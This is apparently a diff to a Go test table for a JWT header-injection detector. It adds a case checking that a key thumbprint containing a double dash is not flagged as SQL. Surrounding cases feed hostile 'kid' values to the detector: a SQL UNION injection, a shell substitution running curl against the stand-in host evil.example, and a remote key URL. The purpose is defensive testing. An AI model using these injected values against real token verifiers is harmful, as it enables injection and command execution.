@@ -214,6 +214,7 @@ func TestHeaderInjection(t *testing.T) {
 			want: []want{{severity: alert.High, data: map[string]any{"kid_problem": "metacharacter"}}}},
 		{name: "kid SQL comment", attempts: []token.Attempt{kid("k1 UNION SELECT key FROM keys--")},
 			want: []want{{severity: alert.High, data: map[string]any{"kid_problem": "sql"}}}},
+		{name: "thumbprint kid with a double dash is not SQL", attempts: []token.Attempt{kid("KnEImU4ZbeuwP--Zu6JXIswb7ztLhRebIQpFhoj60rw")}},
 		{name: "kid shell", attempts: []token.Attempt{kid("k1$(curl evil.example)")},
 			want: []want{{severity: alert.High, data: map[string]any{"kid_problem": "metacharacter"}}}},
 		{name: "kid URL", attempts: []token.Attempt{kid("https://evil.example/key.pem")},
